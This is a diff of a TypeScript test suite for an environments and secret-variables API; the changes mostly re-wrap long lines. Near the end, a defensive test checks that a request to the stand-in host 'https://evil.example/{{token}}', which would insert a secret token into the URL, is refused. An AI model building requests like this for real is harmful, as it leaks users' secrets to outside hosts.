@@ -11,7 +11,8 @@ beforeAll(async () => {
 afterAll(() => test.close());
 
 const post = (input: Record<string, unknown>) => test.rest('POST', '/environments', input);
-const patch = (id: number, input: Record<string, unknown>) => test.rest('PATCH', `/environments/${id}`, input);
+const patch = (id: number, input: Record<string, unknown>) =>
+  test.rest('PATCH', `/environments/${id}`, input);
 const list = async (): Promise<Environment[]> => (await test.rest('GET', '/environments')).body;
 const made = async (input: Record<string, unknown>): Promise<Environment> => {
   const { status, body } = await post({ name: 'Staging', ...input });
@@ -48,7 +49,10 @@ describe('an environment', () => {
     const renamed = await test.trpc('mutation', 'environments.update', { id: body.id, name: 'Test' });
     expect(renamed.body).toMatchObject({ name: 'Test', variables: body.variables, keys: body.keys });
     expect((await test.trpc('query', 'environments.list', {})).body).toEqual([renamed.body]);
-    expect((await patch(body.id, { variables: [], keys: [] })).body).toMatchObject({ variables: [], keys: [] });
+    expect((await patch(body.id, { variables: [], keys: [] })).body).toMatchObject({
+      variables: [],
+      keys: [],
+    });
     expect((await test.rest('DELETE', `/environments/${body.id}`)).body).toEqual({ id: body.id });
     expect(await list()).toEqual([]);
     for (const gone of [await patch(body.id, {}), await test.rest('DELETE', `/environments/${body.id}`)])
@@ -158,7 +162,9 @@ describe('a secret variable', () => {
     ]);
 
   it('is sealed, and masked in every response', async () => {
-    const environment = await made({ variables: [plain, secret({ hosts: ['API.example.com', '*.b.example'] })] });
+    const environment = await made({
+      variables: [plain, secret({ hosts: ['API.example.com', '*.b.example'] })],
+    });
     expect(environment.variables[1]).toEqual({
       name: 'token',
       value: MASK,
@@ -185,7 +191,9 @@ describe('a secret variable', () => {
   it('is stored for its name: under another one, and as a plain one, its mask is only a mask', async () => {
     const { id, variables } = await made({ variables: [secret()] });
     for (const change of [{ name: 'other' }, { isSecret: false }, { value: `stb${'*'.repeat(20)}` }]) {
-      const { status, body } = await patch(id, { variables: variables.map((one) => ({ ...one, ...change })) });
+      const { status, body } = await patch(id, {
+        variables: variables.map((one) => ({ ...one, ...change })),
+      });
       expect([status, body.issues[0].path]).toEqual([400, ['variables', 0, 'value']]);
       expect(JSON.stringify(body)).not.toContain(TOKEN);
     }
@@ -214,7 +222,9 @@ describe('a secret variable', () => {
   });
 
   it('shows nothing of a short value, and may be empty', async () => {
-    const { variables } = await made({ variables: [secret({ value: '1234' }), secret({ name: 'b', value: '' })] });
+    const { variables } = await made({
+      variables: [secret({ value: '1234' }), secret({ name: 'b', value: '' })],
+    });
     expect(variables.map(({ value }) => value)).toEqual(['*'.repeat(20), '*'.repeat(20)]);
   });
 
@@ -227,7 +237,12 @@ describe('a secret variable', () => {
       .execute();
     const { providerId } = await makeKey(test);
     expect(providerId).toBe((await providerBySlug(test, 'custom')).id);
-    const call = { apiKeyId: null, method: 'GET', endpoint: 'https://evil.example/{{token}}', environmentId: id };
+    const call = {
+      apiKeyId: null,
+      method: 'GET',
+      endpoint: 'https://evil.example/{{token}}',
+      environmentId: id,
+    };
     expect((await test.rest('POST', '/test', call)).status).toBe(409);
   });
 });
